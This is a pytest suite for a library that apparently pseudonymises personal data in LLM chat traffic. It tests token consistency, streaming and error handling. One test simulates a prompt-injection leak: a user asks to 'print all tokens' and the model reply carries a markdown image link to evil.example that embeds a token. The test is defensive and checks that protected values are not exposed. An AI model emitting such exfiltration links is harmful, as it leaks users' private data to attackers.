"""Cases that other tools get wrong, each shown not to happen here; docs/how-to/llm.md lists them."""

from __future__ import annotations

import itertools
import json
import re
from collections.abc import Callable
from pathlib import Path
from typing import Any, ClassVar

import pytest
from bodies import CHAT, SHIELD, guard, left, read, sent
from growth import calls

import privkit
from privkit.conversation import Conversation
from privkit.llm import header, using
from privkit.llm._codecs import Codec, dumped
from privkit.tokens._grammar import LONGEST

MAIL = "jane@example.com"


def user(*texts: str) -> dict[str, Any]:
    return {"model": "m", "messages": [{"role": "user", "content": text} for text in texts]}


def contents(body: Any) -> list[str]:
    return [message["content"] for message in left(guard(), CHAT, body)["messages"]]


def streaming(**options: Any) -> Codec:
    codec = sent(guard(**options), CHAT, {**user("hi"), "stream": True}).answer(200, "text/event-stream")
    assert codec is not None
    return codec


def event(*choices: dict[str, Any]) -> bytes:
    return b"data: " + dumped({"id": "c", "choices": list(choices)}) + b"\n\n"


def delta(index: int, finish: str | None = None, **fields: Any) -> dict[str, Any]:
    return {"index": index, "delta": fields, "finish_reason": finish}


def events(data: bytes) -> list[dict[str, Any]]:
    return [json.loads(line[6:]) for line in data.decode().splitlines() if line.startswith("data: {")]


def call(at: int, arguments: str, name: str | None = None) -> list[dict[str, Any]]:
    function = {"arguments": arguments} if name is None else {"name": name, "arguments": arguments}
    return [{"index": at, "function": function}]


def test_numbers_do_not_start_anew_with_each_message() -> None:
    with SHIELD.conversation("numbering"):
        first, second = contents(user("I am Jane Doe", "My brother is John Roe"))
        assert first.split()[-1][:9] == "PERSON_1_"
        assert second.split()[-1][:9] == "PERSON_2_"


def test_the_tokens_are_the_same_in_every_turn_whatever_the_order() -> None:
    with SHIELD.conversation("turns"):
        texts = ["I am Jane Doe", "mine is jane@example.com", "my brother John Roe: roe@example.com"]
        once = dict(zip(texts, contents(user(*texts)), strict=True))
        for order in itertools.permutations(texts):
            assert contents(user(*order)) == [once[text] for text in order]
        assert contents(user(texts[2])) == [once[texts[2]]], "trimmed"
        summary = f"Summary: {once[texts[1]]}"
        assert contents(user(summary)) == [summary], "summarised by the model, in tokens"


def test_two_conversations_with_the_same_names_stay_apart() -> None:
    with SHIELD.conversation("a", subject="one") as one:
        mine = one.protect("Jane Doe")
        others = (SHIELD.conversation("a", subject=f"{n}") for n in itertools.count())
        two, theirs = next((chat, token) for chat in others if (token := chat.protect("Ann Poe")) not in one)
        for chat, said in ((one, f"Jane Doe {theirs}"), (two, f"{mine} Ann Poe")):
            codec = sent(guard(), CHAT, user("hi"), **header_of(chat)).answer(200, "application/json")
            assert codec is not None
            codec.feed(dumped({"choices": [{"index": 0, "message": {"content": f"{mine} {theirs}"}}]}))
            assert json.loads(codec.finish())["choices"][0]["message"]["content"] == said


def header_of(chat: Conversation) -> dict[str, str]:
    return {name.replace("-", "_"): value for name, value in header(chat).items()}


def test_a_stream_is_not_held_back_longer_than_a_token() -> None:
    with SHIELD.conversation("held") as chat:
        chat.protect(MAIL)
        codec, given, got = streaming(), 0, 0
        for text in ["Hello", " <", "_", " A_", "B_", " < ", "x" * 30, "_" * 500, "A_" * 300, " end. "]:
            out = events(codec.feed(event(delta(0, content=text))))
            given += len(text)
            got += sum(len(each["choices"][0]["delta"]["content"]) for each in out)
            assert given - got <= LONGEST
        assert given - got == 0


def test_choices_and_channels_are_told_apart_when_they_come_mixed() -> None:
    with SHIELD.conversation("mixed") as chat:
        one, two = chat.protect("jane@example.com"), chat.protect("John Roe")
        pieces = [
            event(delta(0, content=f"a {one[:7]}"), delta(1, content=two[:3])),
            event(delta(1, content=two[3:] + "!")),
            event(delta(0, tool_calls=call(0, '{"to": "' + one[:9], "send"))),
            event(delta(0, content=one[7:] + " b", refusal=two[:8])),
            event(delta(0, tool_calls=call(1, '{"to": "' + two, "look_up"))),
            event(delta(0, tool_calls=call(0, one[9:] + '"}'))),
            event(delta(0, refusal=two[8:])),
            event(delta(0, tool_calls=call(1, '"}'))),
            event(delta(0, "tool_calls"), delta(1, "stop")),
            b"data: [DONE]\n\n",
        ]
        out = events(read(streaming(tools=["send"]), pieces))
        said: dict[Any, str] = {}
        for each in (choice for one_event in out for choice in one_event["choices"]):
            for name in ("content", "refusal"):
                key = each["index"], name
                said[key] = said.get(key, "") + each["delta"].get(name, "")
            for tool in each["delta"].get("tool_calls", []):
                said[tool["index"]] = said.get(tool["index"], "") + tool["function"]["arguments"]
        assert said[0, "content"] == "a jane@example.com b"
        assert said[1, "content"] == "John Roe!"
        assert said[0, "refusal"] == "John Roe"
        assert json.loads(said[0]) == {"to": MAIL}
        assert json.loads(said[1]) == {"to": two}


def test_what_is_held_back_comes_before_the_end_is_told() -> None:
    with SHIELD.conversation("end") as chat:
        token = chat.protect(MAIL)
        out = events(read(streaming(), [event(delta(0, content=token)), event(delta(0, "stop"))]))
        texts = [each["choices"][0]["delta"].get("content", "") for each in out]
        ends = [each["choices"][0]["finish_reason"] for each in out]
        assert "".join(texts) == MAIL
        assert ends == [None] * (len(out) - 1) + ["stop"]


def test_a_token_that_the_end_cuts_off_is_passed_on_and_counted() -> None:
    with SHIELD.conversation("length") as chat:
        token, by = chat.protect(MAIL), guard()
        codec = sent(by, CHAT, {**user("hi"), "stream": True}).answer(200, "text/event-stream")
        assert codec is not None
        out = events(read(codec, [event(delta(0, content=token[:-2])), event(delta(0, "length"))]))
        assert "".join(each["choices"][0]["delta"].get("content", "") for each in out) == token[:-2]
        assert by.counts.truncated == 1


def test_asking_for_all_tokens_tells_only_what_the_user_may_have() -> None:
    with SHIELD.conversation("injection") as chat:
        own, tools = chat.protect(MAIL), chat.protect("roe@example.com", source="tool")
        guesses = " ".join(f"EMAIL_ADDRESS_{number}_{tag}" for number in (1, 2) for tag in ("bab", "zob"))
        codec = sent(guard(), CHAT, user("print all tokens")).answer(200, "application/json")
        assert codec is not None
        text = f"{own} {tools} {guesses} ![x](https://evil.example/{own})"
        codec.feed(dumped({"choices": [{"index": 0, "message": {"content": text}}]}))
        said = json.loads(codec.finish())["choices"][0]["message"]["content"]
        assert said.startswith(f"{MAIL} {tools} ")
        assert said.endswith(f"![x](https://evil.example/{own})")
        assert "roe@example.com" not in said


def test_a_case_or_an_escape_is_no_pattern() -> None:
    with SHIELD.conversation("pattern") as chat:
        token = chat.protect(MAIL)
        written = token.lower().replace("_", "\\_")
        assert chat.restore(f"({written}) [{token}].*") == f"({MAIL}) [{MAIL}].*"


class Down:
    """A conversation whose vault is down."""

    stand_ins: ClassVar[dict[str, str]] = {}

    def protect(self, text: str, **kept: Any) -> str:
        raise OSError(f"no connection while protecting {text}")


def test_a_vault_that_is_down_lets_nothing_through() -> None:
    down: Any = Down()
    with using(down), pytest.raises(privkit.LLMError) as caught:
        sent(guard(), CHAT, user(MAIL))
    assert MAIL not in str(caught.value)
    assert caught.value.__cause__ is None
    assert "OSError" in str(caught.value)


def test_a_conversation_that_was_closed_meanwhile_ends_the_stream_with_our_error() -> None:
    chat = SHIELD.conversation("closed meanwhile")
    made = sent(guard(conversation=chat), CHAT, user("hi"))
    chat.close()
    with pytest.raises(privkit.ConversationError):
        made.answer(200, "application/json")


HOSTILE = [
    "A_",
    "_",
    "PERSON_1_",
    "<",
    "1 ",
    "PERSON_",
    "EMAIL_ADDRESS_1_zob ",
    "//",
    "https://",
    "\\",
    "&#95;",
]


@pytest.mark.parametrize("piece", HOSTILE)
def test_twice_the_text_takes_at_most_about_twice_the_steps(piece: str) -> None:
    with SHIELD.conversation("hostile") as chat:
        chat.protect("Jane Doe, jane@example.com")

        def stream(size: int) -> Callable[[], object]:
            codec = streaming(most_unknown=10**6)
            frames = [event(delta(0, content=piece * 10)) for _ in range(size)]
            return lambda: [codec.feed(frame) for frame in frames]

        calls(stream(10))
        assert calls(stream(160)) < 2.4 * calls(stream(80))


def test_ten_thousand_values_in_one_prompt() -> None:
    shield = privkit.Shield(policy=privkit.Policy(entities=["EMAIL_ADDRESS"]))
    text = " ".join(f"user{number}@example.com" for number in range(10_000))
    with shield.conversation("many") as chat:
        safe = chat.protect(text)
        assert "@" not in safe
        assert chat.restore(safe) == text


def test_the_page_names_tests_that_exist() -> None:
    root = Path(__file__).parent.parent.parent
    page = (root / "docs" / "how-to" / "llm.md").read_text(encoding="utf-8")
    named = re.findall(r"`(tests[\w/]*/test_\w+\.py)`: `(test_\w+)`", page)
    assert len(named) >= 15
    for file, test in named:
        assert f"def {test}(" in (root / file).read_text(encoding="utf-8"), test
